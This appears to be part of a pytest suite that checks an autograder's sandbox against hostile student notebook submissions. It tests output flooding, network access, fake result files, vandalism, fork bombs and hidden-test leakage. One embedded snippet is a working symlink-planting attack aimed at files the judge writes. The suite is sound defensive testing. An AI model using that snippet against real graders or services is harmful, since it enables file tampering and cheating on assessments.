    assert failed == FAILED_IN_CONTROL, _summary(result)
    assert result.possible - result.score == 7, _summary(result)


def test_honest_submissions_after_the_hostile_ones_score_full_marks(batch):
    for stem in HONEST:
        result = batch.results[stem]
        assert result.status == "graded", result.message
        assert result.score == result.possible > 0, result.message


def test_every_submission_has_a_row(batch):
    with open(batch.out / "grades.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["submission"] for r in rows] == sorted([*CASE_NAMES, CONTROL, *HONEST])
    assert all(r["status"] != "pending" for r in rows), rows
    assert set(batch.results) == {*CASE_NAMES, CONTROL, *HONEST}


def test_batch_is_quick(batch):
    # A few cases run into the cell or request limit; two workers; a loaded machine.
    assert batch.seconds < 150, f"the hostile batch took {batch.seconds:.0f} s"


def test_output_is_capped(batch):
    for name in ("h25-print-flood", "h26-print-gigabytes", "h27-print-20mb"):
        result = batch.results[name]
        assert len(result.log) < LIMITS.max_output_bytes + 1000, (name, len(result.log))
        for path in batch.out.rglob(f"{name}*"):
            assert path.stat().st_size < 1_000_000, path
    assert "more characters of output cut" in batch.results["h27-print-20mb"].log


def test_network_is_unreachable(batch):
    log = batch.results["h19-network"].log
    assert "CONNECTED" not in log, log
    assert log.count("FAILED") >= 4, log
    with pytest.raises(BlockingIOError):
        batch.listener.accept()


def test_no_hostile_process_survives(batch):
    assert not batch.processes_left, batch.processes_left
    assert not _surviving_processes()


def test_hidden_tests_never_reach_student_visible_files(batch):
    leaked = {}
    for folder in ("feedback", "results", ".records"):
        for path in (batch.out / folder).iterdir():
            found = _leaks(batch.markers, path.read_text())
            if found:
                leaked[path.name] = found
    assert not leaked, leaked


def test_the_student_process_holds_no_test_source(batch):
    """Searched at test time, in this process's objects, frames and memory, and in every
    other process it can read (the judge's is not among them)."""
    log = batch.results["e5a-memory-search-at-test-time"].log
    where = json.loads(log.split("MEMORY SEARCHED ", 1)[1].split(" FOUND", 1)[0]
                       .replace("'", '"'))
    # The object walk looks at the clock every 10,000 objects: a loaded machine stops at the first.
    assert where["objects"] >= 10_000 and where["frames"] > 5 and where["bytes"] > 1 << 20, where
    assert "AUDIT FOUND 0" in batch.results["e1f-audit-hook"].log


def test_fake_result_files_change_nothing(batch):
    name = "h15-write-fake-results"
    result = batch.results[name]
    # Writes may "succeed" into the sandbox's private /tmp; what counts is the real folder.
    assert "WROTE /autograder" not in result.log, result.log
    report = json.loads((batch.out / "results" / f"{name}.json").read_text())
    assert report["score"] == result.score <= batch.results[CONTROL].score
    assert "submission,score" not in (batch.out / "grades.csv").read_text()
    expected = {"grades.csv", "sentinel.txt"} | {
        f"{folder}/{stem}.{ext}" for stem in [*CASE_NAMES, CONTROL, *HONEST]
        for folder, ext in (("results", "json"), ("feedback", "md"), (".records", "json"))}
    present = {p.relative_to(batch.out).as_posix() for p in batch.out.rglob("*") if p.is_file()}
    assert present == expected, present ^ expected
    assert (batch.out / "sentinel.txt").read_text() == "sentinel"


def test_grader_process_and_working_directory_untouched(batch):
    assert os.getcwd() == batch.cwd_before
    assert not (ROOT / "vandalized.txt").exists()
    assert "# vandalized" not in (ROOT / "autograder" / "kit" / "checks.py").read_text()
    assert (batch.arena / "bundle" / "autograder.zip").is_file()
    log = batch.results["h41-vandalize"].log
    for attempt in ("remove out", "remove submissions", "remove bundle", "write repo",
                    "kill grader"):
        assert f"DID {attempt}" not in log, log


def test_world_writable_sentinel_outside_scratch_untouched(batch):
    sentinel = batch.arena / "sentinel.txt"
    assert sentinel.exists() and sentinel.read_text() == "sentinel", \
        batch.results["h41-vandalize"].log


def test_no_files_left_outside_scratch(batch):
    left = [path for path in batch.leftovers if os.path.exists(path)]
    assert not left, left


def test_python_and_the_helpers_cannot_be_rewritten(batch):
    log = batch.results["h44-rewrite-python-itself"].log
    assert "DENIED" in log and "WROTE" not in log, log


def test_lone_surrogate_in_an_error_message(batch, releases, tmp_path):
    """A lone surrogate in a cell's error message (legal JSON on the wire) once stopped the
    whole batch when the feedback was written; graded in a batch of its own."""
    case = Case("e4h-lone-surrogate", WIRE_LONE_SURROGATE, where="end", statuses=("graded",))
    submissions = tmp_path / "submissions"
    submissions.mkdir()
    notebook = _hostile_notebook(batch.base, case, {})
    (submissions / f"{case.name}.ipynb").write_text(json.dumps(notebook))
    out = tmp_path / "out"
    with _grading_env():
        [result] = grade_submissions(releases[ASSIGNMENT].bundle, [submissions], workers=1,
                                     limits=LIMITS, out_dir=out)
    feedback = (out / "feedback" / f"{case.name}.md").read_text(errors="replace")
    _check_case(result, case, batch.results[CONTROL], batch.markers, feedback)


@pytest.mark.parametrize("case", [_case_param(c) for c in SERIAL_CASES])
def test_serial_hostile_submission_earns_no_more_than_the_control(serial_batch, batch, case):
    _check_case(serial_batch[case.name], case, batch.results[CONTROL], batch.markers, "")


def test_fork_works_after_a_fork_bomb(serial_batch):
    log = serial_batch["s2-fork-after-bomb"].log
    assert "FORK OK" in log and "OTHER TASKS OF MY UID 0 " in log, log


def test_submissions_cannot_pass_notes(serial_batch):
    log = serial_batch["s4-read-note"].log
    assert "NOTE FOUND" not in log, log


def test_no_process_survives_the_serial_batch(serial_batch):
    assert not _surviving_processes()


PLANT_LINKS = '''
import os, threading, time
shared = os.getcwd() + "-shared"  # the judge's folder, next to this one
def plant():
    seen = set()
    while True:
        try:
            for folder, dirs, files in os.walk(shared):
                if folder in seen:
                    continue
                seen.add(folder)
                for name in ("model.pt", "saved_on_gpu.pt"):
                    try:
                        os.symlink("@TARGET@", os.path.join(folder, name))
                    except OSError:
                        pass
        except OSError:
            pass
        time.sleep(0.0005)
threading.Thread(target=plant, daemon=True).start()
print("PLANTING IN", shared)
'''


@pytest.mark.skipif(os.geteuid() != 0, reason="the judge drops privileges only as root")
def test_links_planted_in_the_judges_folder_reach_nothing_of_the_grader(releases, tmp_path):
    """Tests hand the student's code paths in the judge's folder (03-gpu q7 saves a checkpoint
    there, then calls load_checkpoint). A thread of the student's process plants a link at each
    name the judge will write, pointing at a file of the grader's: the judge, which runs as a
    uid of its own, cannot write through it (this machine may not protect links in sticky
    folders: fs.protected_symlinks)."""
    release = releases["03-gpu"]
    target = tmp_path / "grader-owned.txt"
    target.write_text("intact")
    target.chmod(0o644)
    nb = json.loads(release.solution.read_text())
    imports = next(i for i, c in enumerate(nb["cells"]) if c["cell_type"] == "code" and
                   "import torch" in "".join(c["source"]))
    nb["cells"].insert(imports + 1, {"cell_type": "code", "metadata": {}, "outputs": [],
                                     "execution_count": None,
                                     "source": PLANT_LINKS.replace("@TARGET@", str(target))})
    submission = tmp_path / "planter.ipynb"
    submission.write_text(json.dumps(nb))
    [result] = grade_submissions(release.bundle, [submission], workers=1, limits=LIMITS)
    assert "PLANTING IN" in result.log, result.log[:500]
    assert target.read_text() == "intact"
    assert result.score <= result.possible


def test_the_judge_stays_small_whatever_the_replies_say(batch):
    """The judge's own peak memory, under the replies built to blow it up, stays near an
    honest submission's judge: what it decodes is counted per use, not per byte received."""
    honest = max(batch.results[stem].judge_peak_memory_mb for stem in HONEST)
    assert honest > 0, "the judge's peak memory was not recorded"
    for name in ("e4i-blob-named-many-times", "e4g-huge-declared-length", "e4d-deep-json"):
        result = batch.results[name]
        assert 0 < result.judge_peak_memory_mb < honest + 200, (name, result.judge_peak_memory_mb,
                                                               honest)
